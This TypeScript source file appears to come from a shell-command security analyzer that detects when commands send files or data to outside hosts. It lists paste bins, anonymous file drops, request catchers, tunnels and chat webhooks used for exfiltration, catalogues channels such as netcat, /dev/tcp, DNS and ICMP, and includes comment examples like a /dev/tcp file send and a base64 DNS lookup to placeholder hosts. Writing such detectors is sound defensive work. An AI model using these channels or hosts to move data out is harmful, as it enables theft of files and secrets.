/**
 * What a command sends over the network, and to which host: uploads of curl(1) and wget(1)
 * (`-T`, `-F k=@f`, `-d @f`, `--post-file`), downloaders and network sinks, the hosts of URLs.
 */
import type { ShellCommand } from '../shell/model.js';
import { CURL_VALUED, WGET_VALUED, parseOpts } from './options.js';

/** Files curl/wget upload (`-T f`, `--upload-file f`, `-F k=@f`, `-d @f`, `--post-file=f`). */
export function uploadedFiles(cmd: ShellCommand): string[] {
  const out: string[] = [];
  const args = cmd.argv.slice(1);
  if (cmd.name === 'curl') {
    const o = parseOpts(args, CURL_VALUED);
    out.push(...(o.values.get('-T') ?? []), ...(o.values.get('--upload-file') ?? []));
    for (const k of ['-F', '--form']) for (const v of o.values.get(k) ?? []) {
      const m = /^[^=]*=[@<]([^;]+)/.exec(v);
      if (m) out.push(m[1]!);
    }
    for (const k of ['-d', '--data', '--data-binary', '--data-ascii', '--data-urlencode', '--json']) for (const v of o.values.get(k) ?? []) {
      const m = /^(?:[^=@]*=)?@(.+)$/.exec(v);
      if (m) out.push(m[1]!);
      // --data-urlencode also takes `name@filename` (curl(1) --data-urlencode: https://curl.se/docs/manpage.html#--data-urlencode)
      const n = k === '--data-urlencode' && !m ? /^[^=@]+@(.+)$/.exec(v) : null;
      if (n) out.push(n[1]!);
    }
  } else if (cmd.name === 'wget') {
    const o = parseOpts(args, WGET_VALUED);
    out.push(...(o.values.get('--post-file') ?? []), ...(o.values.get('--body-file') ?? []));
  }
  return out.filter((p) => p !== '-');
}

/**
 * Hosts where whatever is sent is published, or kept for whoever holds the link: paste bins (ATT&CK
 * T1567.003, https://attack.mitre.org/techniques/T1567/003/), anonymous file drops, request
 * catchers and out-of-band interaction servers, chat webhooks and bot APIs (T1567.004,
 * https://attack.mitre.org/techniques/T1567/004/, names Discord, Slack and webhook.site), and the
 * public names of quick tunnels (ngrok, Cloudflare's trycloudflare.com, localtunnel's loca.lt,
 * localhost.run, serveo), where a listener on someone's laptop answers. One list, as data, for
 * every rule that asks (`upload-to-drop-service`, `upload-file-to-host`); a host matches with any
 * subdomain (`eo1x.m.pipedream.net`, `abc.ngrok-free.app`). The hosts are those the LOTS project
 * (https://lots-project.com/) lists for exfiltration, and the services' own documentation.
 */
export const DROP_HOSTS: readonly string[] = [
  // paste bins
  'pastebin.com', 'paste.ee', 'paste.rs', 'hastebin.com', 'ghostbin.com', 'ghostbin.co', 'termbin.com', 'ix.io', 'sprunge.us', 'dpaste.com', 'dpaste.org', 'rentry.co', 'rentry.org', 'controlc.com', 'justpaste.it', 'privatebin.net',
  // anonymous file drops
  'file.io', 'transfer.sh', '0x0.st', 'anonfiles.com', 'gofile.io', 'catbox.moe', 'temp.sh', 'bashupload.com', 'oshi.at', 'ufile.io', 'filebin.net', 'keep.sh', 'tmpfiles.org', 'uguu.se', 'pixeldrain.com',
  // request catchers and out-of-band interaction servers
  'webhook.site', 'requestbin.com', 'requestbin.net', 'pipedream.net', 'hookbin.com', 'beeceptor.com', 'requestcatcher.com', 'mockbin.org', 'postb.in', 'requestrepo.com', 'interact.sh', 'oast.fun', 'oast.live', 'oast.me', 'oast.online', 'oast.pro', 'oast.site', 'burpcollaborator.net', 'oastify.com',
  // chat webhooks and bot APIs (Discord's are named by path: DROP_URL)
  'hooks.slack.com', 'webhook.office.com', 'api.telegram.org',
  // quick tunnels to a listener elsewhere
  'ngrok.io', 'ngrok.app', 'ngrok.dev', 'ngrok-free.app', 'ngrok-free.dev', 'trycloudflare.com', 'loca.lt', 'lhr.life', 'serveo.net',
];

const DROP_HOST = new RegExp(`^(?:[\\w-]+\\.)*(?:${DROP_HOSTS.map((h) => h.replace(/[.]/g, '\\.')).join('|')})$`, 'i');
/** Drops named by their path on a shared host: Discord webhooks (`/api/webhooks/…`, versioned
 * `/api/v10/webhooks/…`) and channel messages, and a Telegram bot's send methods, whose query
 * string alone carries the data (`/botTOKEN/sendMessage?text=…`; Telegram Bot API,
 * https://core.telegram.org/bots/api#making-requests). */
export const DROP_URL = /\bhttps?:\/\/(?:ptb\.|canary\.)?discord(?:app)?\.com\/api\/(?:v\d+\/)?(?:webhooks|channels\/\d+\/messages)\/?|\bhttps?:\/\/api\.telegram\.org\/bot[^/\s]+\/send\w+/i;

/** True when the host is one of {@link DROP_HOSTS} (or a subdomain of one). */
export function isDropHost(host: string): boolean {
  return DROP_HOST.test(host);
}

/** True when the URL points at a drop: its host is one of {@link DROP_HOSTS}, or it matches {@link DROP_URL}. */
export function isDropUrl(url: string): boolean {
  return DROP_URL.test(url) || isDropHost((/^[a-z][\w+.-]*:\/\/(?:[^/@\s]*@)?([^/:?#\s]+)/i.exec(url)?.[1] ?? '').toLowerCase());
}

/** Commands that fetch a URL. */
export const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'http', 'https', 'xh', 'aria2c', 'iwr', 'invoke-webrequest', 'irm', 'invoke-restmethod', 'lwp-request', 'GET']);

/** Commands that send data over the network. */
export const NETWORK_SINKS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'ssh', 'scp', 'telnet', 'openssl', 'http', 'https', 'xh', 'sftp', 'ftp', 'rsync']);

/** True when the command is a downloader (curl, wget, …). */
export function isDownloader(cmd: ShellCommand): boolean {
  return DOWNLOADERS.has(cmd.name.toLowerCase());
}

/** True when a downloader appears among the commands. */
export function hasDownloader(cmds: ShellCommand[]): boolean {
  return cmds.some((c) => DOWNLOADERS.has(c.name.toLowerCase()));
}

/** Non-loopback hosts of http(s) URLs in the text. */
export function remoteHosts(text: string): string[] {
  const hosts: string[] = [];
  for (const m of text.matchAll(/\bhttps?:\/\/(?:[^\s/@"']*@)?(\[[^\]]+\]|[^\s/:?#"']+)/gi)) {
    const h = m[1]!.toLowerCase();
    if (!isLoopback(h)) hosts.push(h);
  }
  return hosts;
}

/**
 * Top-level domains a bare curl/wget operand may end in to be read as a host name: the generic
 * ones, the country codes the drop services above use (`transfer.sh`, `ix.io`, `0x0.st`, `paste.rs`,
 * `loca.lt`, `oshi.at`, …), and the names reserved for examples and private use (RFC 2606, RFC 6761:
 * `.example`, `.test`, `.internal`, `.local`). File extensions that are no TLD (`.txt`, `.json`,
 * `.py`, `.md`) leave `curl -O file.txt` a file name.
 */
const HOST_TLD = /\.(?:com|net|org|edu|gov|mil|int|info|biz|io|co|me|sh|st|rs|at|se|lt|us|it|in|eu|uk|de|fr|nl|ru|cn|jp|br|ca|au|ch|es|pl|cz|kr|tw|hk|sg|ai|gg|to|cc|tv|ws|ly|is|app|dev|moe|life|site|online|pro|fun|live|xyz|cloud|tech|link|run|page|top|club|goog|example|test|internal|local|lan|localhost)$/i;
/** A bare operand read as a URL: `host[:port][/path|?query|#frag]`, with a user part allowed. */
const BARE_URL = /^(?:[^@/\s:]+(?::[^@/\s]*)?@)?(\[[0-9a-f:.]+\]|[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?)*)(:\d{1,5})?(?:[/?#]\S*)?$/;

/** True when a bare operand of curl/wget names a host: an IPv4 address, a name with a port
 * (`localhost:8080`, `x.example:8080/u`) or a dotted name ending in a {@link HOST_TLD} (`ix.io`,
 * `example.org/path`). */
function bareHostUrl(operand: string): boolean {
  const m = BARE_URL.exec(operand);
  if (!m) return false;
  const host = m[1]!;
  return m[2] !== undefined || /^\d{1,3}(?:\.\d{1,3}){3}$/.test(host) || (host.includes('.') && HOST_TLD.test(host));
}

/**
 * The URLs a curl/wget command contacts: its scheme-bearing URLs, and every operand (or `--url`
 * value) without a scheme that looks like a host ({@link bareHostUrl}), read as `http://OPERAND`,
 * the scheme both assume (curl(1) "URL": "If you specify URL without protocol:// prefix, curl
 * will attempt to guess what protocol you might want. It will then default to HTTP"; wget(1)
 * the same). Other programs: the http(s) URLs in their arguments.
 */
export function clientUrls(cmd: ShellCommand): string[] {
  const args = cmd.argv.slice(1);
  const urls = args.flatMap((a) => [...a.matchAll(/\bhttps?:\/\/[^\s"'<>]+/gi)].map((m) => m[0]));
  if (cmd.name !== 'curl' && cmd.name !== 'wget') return urls;
  const o = parseOpts(args, cmd.name === 'curl' ? CURL_VALUED : WGET_VALUED);
  for (const a of [...o.operands, ...(o.values.get('--url') ?? [])]) if (!/^[a-z][\w+.-]*:\/\//i.test(a) && bareHostUrl(a)) urls.push(`http://${a}`);
  return urls;
}

/** Non-loopback hosts a curl/wget command contacts ({@link clientUrls}), or of the http(s) URLs in another command's arguments. */
export function clientHosts(cmd: ShellCommand): string[] {
  return remoteHosts(clientUrls(cmd).join(' '));
}

/** localhost, 127/8, ::1, 0.0.0.0. */
function isLoopback(host: string): boolean {
  return /^(?:localhost|localhost\.localdomain|127(?:\.\d+){3}|\[::1\]|::1|0\.0\.0\.0|host\.docker\.internal)$/.test(host);
}

/** One transfer a command makes to another host. */
export interface Send {
  /** The host (name or address, lower-cased); `?` when the program names none statically. */
  host: string;
  /** Local files whose contents go to the host (normalised). */
  files: string[];
  /** The command's standard input goes to the host (what its pipeline upstream writes). */
  stdin: boolean;
  /** How: `http`, `netcat`, `dev-tcp`, `scp`, `rsync`, `ssh`, `ftp`, `smb`, `dns`, `icmp`, `mail`, `tls`, `rclone`, `cloud`. */
  channel: string;
}

const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'telnet', 'socat', 'pwncat', 'cryptcat']);
const DNS_TOOLS = new Set(['dig', 'nslookup', 'host', 'drill', 'resolvectl', 'kdig', 'delv', 'resolve-dnsname']);
const DEV_NET = /^\/dev\/(?:tcp|udp)\/([^/]+)\/\d+$/;
/** A host name label that carries encoded data: 40 or more base64/base32/hex characters, or a
 * label ending in base64 padding (`MTExLTEx=.x.example`; `=` is never part of a real name). */
export const ENCODED_LABEL = /(?:^|[./@])(?:[A-Za-z0-9+/=_-]{40,}|[A-Za-z0-9+/_-]{4,}={1,2})\.[A-Za-z0-9-]/;
/** Network clients whose operands are host names or URLs (their lookup goes out first). */
const NAME_CLIENTS = /^(?:curl|wget|ping|ping6|nc|ncat|netcat|telnet|ssh|ftp|invoke-webrequest|invoke-restmethod|iwr|irm|test-connection|test-netconnection)(?:\.exe)?$/i;
/** The host of a URL or `user@host` operand (the operand itself when it is neither). */
const hostPart = (a: string) => a.replace(/^[a-z][\w+.-]*:\/\//i, '').replace(/^[^@/]*@/, '').replace(/[/:?#].*$/, '');
/** The operands of a {@link NAME_CLIENTS} command (option values left out where the options are known). */
function clientOperands(name: string, args: string[]): string[] {
  const n = name.toLowerCase();
  if (n === 'curl' || n === 'wget') return parseOpts(args, n === 'curl' ? CURL_VALUED : WGET_VALUED).operands;
  return args.filter((a) => !a.startsWith('-'));
}
/** `host:path`, `user@host:path`, `rsync://host/…`, `scp://host/…` */
const REMOTE_PATH = /^(?:(?:scp|sftp|rsync):\/\/(?:[^@/]*@)?([^/:]+)|(?:[^@/\s:]+@)?(\[[^\]]+\]|[A-Za-z0-9][\w.-]*):(?!\/\/))/;

/** The host of a `host:path` / URL operand, or null. */
export function remoteOf(operand: string): string | null {
  const m = REMOTE_PATH.exec(operand);
  if (!m || /^[A-Za-z]:$/.test(operand.slice(0, 2))) return null;
  return (m[1] ?? m[2] ?? '').toLowerCase() || null;
}

/**
 * What a command sends to other hosts, by channel: curl/wget uploads (`-T`, `-F k=@f`, `-d @f`,
 * `--post-file`, a body read from stdin `-d @-`), netcat/socat/telnet (stdin, `< file`), a
 * redirect into `/dev/tcp/HOST/PORT`, `scp`/`sftp`/`rsync` to a remote destination, `ssh HOST`
 * fed stdin or a file, `ftp`/`tftp`/`lftp`/`smbclient` puts, `openssl s_client`, mail with an
 * attachment (also PowerShell Send-MailMessage), cloud storage CLIs copying to a bucket or remote
 * (`aws s3 cp`, `gsutil cp`, `gcloud storage cp`, `az storage blob upload`, `azcopy`, `s3cmd`,
 * `rclone`; {@link cloudCopySend}), and DNS lookups (`dig`, `nslookup`, `host`) whose query name is built at run time.
 */
export function sendsOf(cmd: ShellCommand): Send[] {
  const out: Send[] = [];
  const args = cmd.argv.slice(1);
  const inputs = cmd.redirects.filter((r) => /^0?<$/.test(r.op) && r.target).map((r) => r.target);
  const hasStdinData = cmd.pipeline !== null && cmd.stage > 0;
  for (const r of cmd.redirects) {
    const m = DEV_NET.exec(r.target);
    if (m && /^\d*(?:>|>>|>&|&>|<>)$/.test(r.op)) out.push({ host: m[1]!.toLowerCase(), files: [...inputs, ...substitutedFiles(cmd)], stdin: hasStdinData, channel: 'dev-tcp' });
  }
  const name = cmd.name;
  if (name === 'curl' || name === 'wget') {
    const hosts = clientHosts(cmd);
    const files = uploadedFiles(cmd);
    const fromStdin = args.some((a) => /^@-$|=@-$|^-$/.test(a)) || (name === 'curl' && args.some((a, i) => (a === '-T' || a === '--upload-file') && args[i + 1] === '-'));
    if (hosts.length && (files.length || fromStdin)) for (const h of hosts) out.push({ host: h, files, stdin: fromStdin, channel: 'http' });
    // curl -T f ftp://… / smb://…
    if (files.length && !hosts.length) for (const m of args.join(' ').matchAll(/\b(?:ftps?|smb|scp|sftp|tftp):\/\/(?:[^\s/@]*@)?([^\s/:]+)/gi)) out.push({ host: m[1]!.toLowerCase(), files, stdin: false, channel: 'ftp' });
  } else if (NETCATS.has(name)) {
    const listen = args.some((a) => /^-[a-zA-Z]*l/.test(a) || a === '--listen');
    const host = name === 'socat' ? socatHost(args) : args.find((a) => !a.startsWith('-') && !/^\d+$/.test(a)) ?? null;
    // socat's file addresses (`FILE:path`, `OPEN:path`, `GOPEN:path`: socat(1) "ADDRESS TYPES") are read and sent
    const opened = name === 'socat' ? args.filter((a) => /^(?:file|open|gopen):[^,]/i.test(a)).map((a) => a.replace(/^[a-z]+:/i, '').replace(/,.*$/, '')) : [];
    if (!listen && host) out.push({ host: host.toLowerCase(), files: [...inputs, ...opened], stdin: hasStdinData, channel: 'netcat' });
  } else if (name === 'sftp' && cmd.stdin !== null && /(?:^|\n)\s*(?:put|mput|reput)\s+\S+/.test(cmd.stdin)) {
    // `sftp host <<< 'put FILE'`: a batch fed on stdin uploads
    const host = remoteOf(args.filter((a) => !a.startsWith('-')).pop() ?? '') ?? args.find((a) => !a.startsWith('-'))?.replace(/^[^@]*@/, '') ?? '?';
    const files = [...cmd.stdin.matchAll(/(?:^|\n)\s*(?:put|mput|reput)\s+(\S+)/g)].map((m) => m[1]!);
    out.push({ host: host.toLowerCase(), files, stdin: false, channel: 'scp' });
  } else if (name === 'scp' || name === 'sftp' || name === 'rsync') {
    const o = parseOpts(args, { short: name === 'rsync' ? 'eTB' : 'cFiJlPSoDe', long: ['rsh', 'exclude', 'include', 'filter', 'rsync-path'] });
    const dest = o.operands[o.operands.length - 1] ?? '';
    const host = remoteOf(dest);
    if (host && o.operands.length >= 2) out.push({ host, files: o.operands.slice(0, -1).filter((p) => remoteOf(p) === null), stdin: false, channel: name === 'rsync' ? 'rsync' : 'scp' });
  } else if (name === 'ssh') {
    const o = parseOpts(args, { short: 'bcDEeFIiJLlmOoPpQRSWw' });
    const host = o.operands[0];
    if (host && (inputs.length || hasStdinData)) out.push({ host: host.replace(/^[^@]*@/, '').toLowerCase(), files: inputs, stdin: hasStdinData, channel: 'ssh' });
  } else if (name === 'ftp' || name === 'tftp' || name === 'lftp' || name === 'smbclient' || name === 'ncftpput' || name === 'curlftpfs') {
    const text = [args.join(' '), cmd.stdin ?? ''].join('\n');
    const puts = [...text.matchAll(/\b(?:put|mput|-p|send)\s+(\S+)/g)].map((m) => m[1]!);
    const host = args.find((a) => !a.startsWith('-') && /[.\w]/.test(a)) ?? '?';
    if (puts.length || name === 'ncftpput') out.push({ host: host.replace(/^\/\/|\/.*$/g, '').toLowerCase(), files: puts, stdin: false, channel: name === 'smbclient' ? 'smb' : 'ftp' });
  } else if (name === 'openssl' && args[0] === 's_client') {
    const i = args.indexOf('-connect');
    const host = (args[i + 1] ?? '').replace(/:\d+$/, '');
    if (i >= 0 && (inputs.length || hasStdinData)) out.push({ host: host.toLowerCase(), files: inputs, stdin: hasStdinData, channel: 'tls' });
  } else if (DNS_TOOLS.has(name.toLowerCase())) {
    // a query name that carries data: built from a substitution or variable, or a long encoded label
    const dynamicName = cmd.words.slice(1).some((w) => !w.text.startsWith('-') && !w.text.startsWith('@') && w.dynamic && /\$/.test(w.text));
    const encoded = args.some((a) => ENCODED_LABEL.test(a));
    if (dynamicName || encoded) out.push({ host: '?', files: [], stdin: false, channel: 'dns' });
  } else if (name === 'ping' || name === 'ping6') {
    // ping(8) -p PATTERN fills each packet with up to 16 bytes given in hex: built from a substitution or
    // a variable, it carries data to the host (https://man7.org/linux/man-pages/man8/ping.8.html)
    const i = cmd.words.findIndex((w, k) => k > 0 && w.text === '-p');
    const pad = i > 0 ? cmd.words[i + 1] : cmd.words.find((w, k) => k > 0 && /^-p./.test(w.text));
    const o = parseOpts(args, { short: 'cipsWwItlmMQSFTe' });
    if (pad && pad.dynamic && /\$/.test(pad.text)) out.push({ host: (o.operands[o.operands.length - 1] ?? '?').toLowerCase(), files: [], stdin: false, channel: 'icmp' });
  } else if (name === 'hping3' || name === 'hping') {
    // hping3(8) -E/--file F sends F's contents as the packets' data
    const o = parseOpts(args, { short: 'EdcipsMLtTwWxya', long: ['file', 'data', 'count', 'interval', 'interface', 'baseport', 'destport', 'ttl'] });
    const files = [...(o.values.get('-E') ?? []), ...(o.values.get('--file') ?? [])];
    if (files.length) out.push({ host: (o.operands[o.operands.length - 1] ?? '?').toLowerCase(), files, stdin: false, channel: 'icmp' });
  } else if (/^send-mailmessage$/i.test(name)) {
    // PowerShell Send-MailMessage -Attachments F[,G] -SmtpServer HOST
    const files = args.flatMap((a, i) => (/^-Attachments?$/i.test(args[i - 1] ?? '') ? a.split(',').map((f) => f.trim()) : []));
    const host = args.find((a, i) => /^-SmtpServer$/i.test(args[i - 1] ?? '')) ?? '?';
    if (files.length) out.push({ host: host.toLowerCase(), files, stdin: false, channel: 'mail' });
  } else if (name === 'az' || CLOUD_COPIERS.some((c) => c.name === name)) {
    const send = cloudCopySend(cmd);
    if (send) out.push(send);
  } else if (name === 'mail' || name === 'mailx' || name === 'mutt' || name === 'sendmail' || name === 'msmtp') {
    const o = parseOpts(args, { short: 'asbcrAS' });
    const files = [...(o.values.get('-a') ?? []), ...(o.values.get('-A') ?? [])];
    if (files.length || inputs.length) out.push({ host: '?', files: [...files, ...inputs], stdin: hasStdinData, channel: 'mail' });
  }
  // a name whose lookup carries the data, whatever the client (`curl -XPOST MTEx=.x.example`,
  // `ping -c1 $(base64 f).x.example` is the DNS tool branch's): the resolver sends it out first
  if (!DNS_TOOLS.has(name.toLowerCase()) && NAME_CLIENTS.test(name) && !out.some((s) => s.channel === 'dns') && clientOperands(name, args).some((a) => ENCODED_LABEL.test(hostPart(a)))) out.push({ host: '?', files: [], stdin: false, channel: 'dns' });
  return out;
}

/**
 * Cloud storage CLIs that copy local files to a bucket, as data: the program, the subcommand
 * words that copy (`aws s3 cp`), how a bucket operand is written (its first group names the
 * bucket, account or remote) and the options that take a value. A new CLI is one entry.
 */
const CLOUD_COPIERS: { name: string; verbs: string[][]; bucket: RegExp; valued: Set<string> }[] = [
  { name: 'aws', verbs: [['s3', 'cp'], ['s3', 'mv'], ['s3', 'sync']], bucket: /^s3:\/\/([^/]+)/i, valued: new Set(['--profile', '--region', '--endpoint-url', '--exclude', '--include', '--acl', '--storage-class', '--content-type', '--sse', '--sse-kms-key-id', '--cache-control', '--expires', '--metadata', '--metadata-directive', '--grants', '--output', '--query']) },
  { name: 'gsutil', verbs: [['cp'], ['mv'], ['rsync']], bucket: /^gs:\/\/([^/]+)/i, valued: new Set(['-h', '-o', '-x', '-z', '-a', '-p', '-u']) },
  { name: 'gcloud', verbs: [['storage', 'cp'], ['storage', 'mv'], ['storage', 'rsync']], bucket: /^gs:\/\/([^/]+)/i, valued: new Set(['--project', '--account', '--exclude', '--content-type', '--storage-class']) },
  { name: 's3cmd', verbs: [['put'], ['sync'], ['mv']], bucket: /^s3:\/\/([^/]+)/i, valued: new Set(['-c', '--config', '--exclude', '--include', '--mime-type', '--storage-class']) },
  { name: 'azcopy', verbs: [['copy'], ['cp'], ['sync']], bucket: /^https:\/\/([^/]+\.(?:blob|dfs|file)\.core\.windows\.net)/i, valued: new Set(['--include-pattern', '--exclude-pattern', '--log-level', '--from-to']) },
  // rclone copy SRC REMOTE:PATH: a configured cloud remote (rclone(1)); `C:` is a drive, not a remote
  { name: 'rclone', verbs: [['copy'], ['copyto'], ['sync'], ['move'], ['moveto']], bucket: /^([A-Za-z0-9_][\w.-]+):/, valued: new Set(['--config', '--exclude', '--include', '--filter', '--transfers', '--checkers', '--bwlimit', '--max-age', '--min-age']) },
];

/**
 * The upload a cloud storage CLI makes ({@link CLOUD_COPIERS}): its copy subcommand with a bucket
 * as the last operand and local sources before it (`aws s3 cp ./db.sql s3://b/`, `gsutil -m cp -r
 * dir gs://b`, `rclone copy ~/Documents mega:backup`; `-` is stdin), or `az storage blob upload
 * -f FILE` / `upload-batch -s DIR`. A download (a bucket source, a local destination) sends nothing.
 */
function cloudCopySend(cmd: ShellCommand): Send | null {
  const args = cmd.argv.slice(1);
  if (cmd.name === 'az') {
    if (args[0] !== 'storage' || args[1] !== 'blob' || !/^upload(?:-batch)?$/.test(args[2] ?? '')) return null;
    const files = args.filter((_, i) => /^(?:-f|--file|-s|--source)$/.test(args[i - 1] ?? ''));
    const account = args.find((_, i) => args[i - 1] === '--account-name') ?? '?';
    return files.length ? { host: account.toLowerCase(), files, stdin: false, channel: 'cloud' } : null;
  }
  const entry = CLOUD_COPIERS.find((c) => c.name === cmd.name);
  if (!entry) return null;
  const words = args.filter((a, i) => (a === '-' || !a.startsWith('-')) && !entry.valued.has(args[i - 1] ?? ''));
  // the subcommand: the first operand words (global options such as `aws --profile p` left out)
  const verb = entry.verbs.find((v) => v.every((w, i) => words[i] === w));
  if (!verb) return null;
  const ops = words.slice(verb.length);
  const dest = ops[ops.length - 1] ?? '';
  const m = entry.bucket.exec(dest);
  if (ops.length < 2 || !m) return null;
  const sources = ops.slice(0, -1).filter((p) => p !== '-' && !entry.bucket.test(p));
  const stdin = ops.includes('-') && cmd.pipeline !== null && cmd.stage > 0;
  if (!sources.length && !stdin) return null;
  return { host: m[1]!.toLowerCase(), files: sources, stdin, channel: cmd.name === 'rclone' ? 'rclone' : 'cloud' };
}

/** Files whose whole contents a command's words substitute: `"$(<F)"`, `"$(cat F)"` (`echo "$(<F)" >
 * /dev/tcp/HOST/PORT` sends F). */
function substitutedFiles(cmd: ShellCommand): string[] {
  const out: string[] = [];
  for (const w of cmd.words) for (const sub of w.subs) {
    if (sub.kind !== 'command') continue;
    for (const c of sub.commands) {
      if (c.argv.length === 0) out.push(...c.redirects.filter((r) => /^0?<$/.test(r.op) && r.target).map((r) => r.target));
      else if (c.name === 'cat') out.push(...c.argv.slice(1).filter((a) => !a.startsWith('-')));
    }
  }
  return out;
}

/** The host of socat's network address (`TCP:host:port`, `TCP4:…`, `OPENSSL:…`, `UDP:…`). */
function socatHost(args: string[]): string | null {
  for (const a of args) {
    const m = /^(?:tcp[46]?|udp[46]?|openssl|ssl|sctp)(?:-connect)?:([^:,]+):/i.exec(a);
    if (m) return m[1]!;
  }
  return null;
}

/** True when the command writes what it receives from another host to stdout: a downloader, or
 * `ssh HOST CMD` (the remote command's output), `nc HOST PORT`, `openssl s_client`. */
export function isRemoteSource(cmd: ShellCommand): boolean {
  if (isDownloader(cmd)) return true;
  // finger/whois print what the remote server answers (`finger user@host | cmd`)
  if ((cmd.name === 'finger' || cmd.name === 'whois') && cmd.argv.some((a, i) => i > 0 && /@|\./.test(a))) return true;
  if (cmd.name === 'ssh') return parseOpts(cmd.argv.slice(1), { short: 'bcDEeFIiJLlmOoPpQRSWw' }).operands.length >= 2;
  if (NETCATS.has(cmd.name)) return !cmd.argv.slice(1).some((a) => /^-[a-zA-Z]*[lze]/.test(a)) && cmd.argv.length >= 3;
  return cmd.name === 'openssl' && cmd.argv[1] === 's_client';
}
